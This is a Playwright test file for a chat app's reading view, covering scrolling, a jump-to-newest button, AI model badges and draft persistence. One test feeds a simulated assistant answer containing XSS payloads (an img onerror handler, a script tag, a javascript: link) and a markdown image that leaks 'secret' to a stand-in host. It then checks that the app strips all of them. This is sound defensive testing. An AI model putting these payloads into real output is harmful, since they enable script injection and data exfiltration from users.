// Reading: history, scrolling, badges, and what an answer may contain.
import { expect, says, test, transcript } from '../support/fixtures.ts'

test('the newest message is visible, and older ones load when the reader scrolls up · MSG-02 MSG-03 MSG-05', async ({ kring }) => {
  const bram = kring.visitor('Bram')
  const { id } = await bram.createSession()
  const ear = await bram.join(id)
  ear.send({ type: 'ai_toggle', enabled: false })
  for (let n = 1; n <= 130; n += 1) await ear.says(`message number ${n} of many`)
  const anna = await kring.person({ name: 'Anna' })
  await anna.goto(`/chat/${id}`)
  const log = transcript(anna)
  await expect(log.getByText('message number 130 of many')).toBeInViewport()
  await expect(anna.getByRole('button', { name: 'To the newest message' })).toBeHidden()
  await log.hover()
  await expect(async () => {
    await anna.mouse.wheel(0, -3000)
    await expect(log.getByText('message number 1 of many')).toBeInViewport({ timeout: 300 })
  }).toPass()
  const toNewest = anna.getByRole('button', { name: 'To the newest message' })
  await expect(toNewest).toBeVisible()
  // New messages do not move a reader who has scrolled up.
  const before = await log.evaluate((box) => box.scrollTop)
  await ear.says('a new one meanwhile')
  await ear.settles()
  await expect(log.getByText('message number 1 of many')).toBeInViewport()
  expect(Math.abs((await log.evaluate((box) => box.scrollTop)) - before)).toBeLessThan(100)
  await toNewest.click()
  await expect(log.getByText('a new one meanwhile')).toBeInViewport()
  await expect(toNewest).toBeHidden()
})

test('the button to the newest message is shown more than 100 px above it · MSG-03', async ({ kring }) => {
  const bram = kring.visitor('Bram')
  const { id } = await bram.createSession()
  const ear = await bram.join(id)
  ear.send({ type: 'ai_toggle', enabled: false })
  for (let n = 1; n <= 40; n += 1) await ear.says(`message number ${n} of many`)
  const anna = await kring.person({ name: 'Anna' })
  await anna.goto(`/chat/${id}`)
  const log = transcript(anna)
  await expect(log.getByText('message number 40 of many')).toBeInViewport()
  const toNewest = anna.getByRole('button', { name: 'To the newest message' })
  const goUp = (pixels: number) =>
    log.evaluate(async (box, up) => {
      box.scrollTop = box.scrollHeight - box.clientHeight - up
      // Two frames: the effects of scrolling are visible in the second.
      for (const _time of [1, 2]) await new Promise((go) => requestAnimationFrame(go))
    }, pixels)
  for (const [pixels, isShown] of [
    [95, false],
    [105, true],
    [95, false],
  ] as const) {
    await goUp(pixels)
    await expect(toNewest, `${pixels} px`).toBeVisible({ visible: isShown })
  }
  await goUp(105)
  await toNewest.click()
  await expect(log.getByText('message number 40 of many')).toBeInViewport()
})

for (const [model, badge] of [
  ['gpt-4o', 'GPT-4'],
  ['gpt-3.5-turbo', 'GPT-3.5'],
  ['offline', 'Demo'],
  ['llama-4', 'llama-4'],
]) {
  test(`an answer of ${model} is labelled AI Assistant with the badge ${badge} · MSG-07 MSG-08`, async ({ kring }) => {
    Object.assign(kring.assistant, { model })
    const { id } = await kring.visitor('Host').createSession()
    const anna = await kring.person({ name: 'Anna' })
    await anna.goto(`/chat/${id}`)
    await says(anna, 'Hello')
    const answer = await kring.assistant.begins()
    answer.says('Hello Anna.')
    answer.ends()
    const article = transcript(anna).getByRole('article').filter({ hasText: 'Hello Anna.' })
    await expect(article.getByText('AI Assistant', { exact: true })).toBeVisible()
    await expect(article.getByText(String(badge), { exact: true })).toBeVisible()
  })
}

test('an answer is formatted without raw HTML, scripts or remote pictures', async ({ kring }) => {
  const { id } = await kring.visitor('Host').createSession()
  const anna = await kring.person({ name: 'Anna' })
  const asked: string[] = []
  anna.on('request', (request) => asked.push(request.url()))
  await anna.goto(`/chat/${id}`)
  await says(anna, 'Show me everything')
  const answer = await kring.assistant.begins()
  answer.says('# Title\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nlet x = 1\n```\n\n')
  answer.says(
    '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>\n\n![words](https://leak.example/?q=secret)\n\n[link](javascript:window.hacked=1) [good](https://example.com)',
  )
  answer.ends()
  const log = transcript(anna)
  await expect(log.getByRole('heading', { name: 'Title' })).toBeVisible()
  await expect(log.getByRole('table')).toBeVisible()
  await expect(log.getByText('let x = 1')).toBeVisible()
  await expect(log.locator('img, script')).toHaveCount(0)
  await expect(log.getByRole('link', { name: 'good' })).toHaveAttribute('rel', /noopener/)
  expect(await log.locator('a[href^="javascript"]').count()).toBe(0)
  expect(await anna.evaluate(() => 'hacked' in window)).toBe(false)
  expect(asked.filter((url) => !url.startsWith(kring.server.url))).toEqual([])
})

test('an empty session invites people to start · MSG-01', async ({ kring }) => {
  const { id } = await kring.visitor('Host').createSession()
  const anna = await kring.person({ name: 'Anna' })
  await anna.goto(`/chat/${id}`)
  await expect(anna.getByText('Start the conversation')).toBeVisible()
})

test('a draft survives a reload; an unsent message too', async ({ kring }) => {
  const { id } = await kring.visitor('Host').createSession()
  const anna = await kring.person({ name: 'Anna' })
  await anna.goto(`/chat/${id}`)
  const field = anna.getByRole('textbox', { name: 'Message' })
  await field.fill('not ready yet')
  await anna.reload()
  await expect(field).toHaveValue('not ready yet')
})
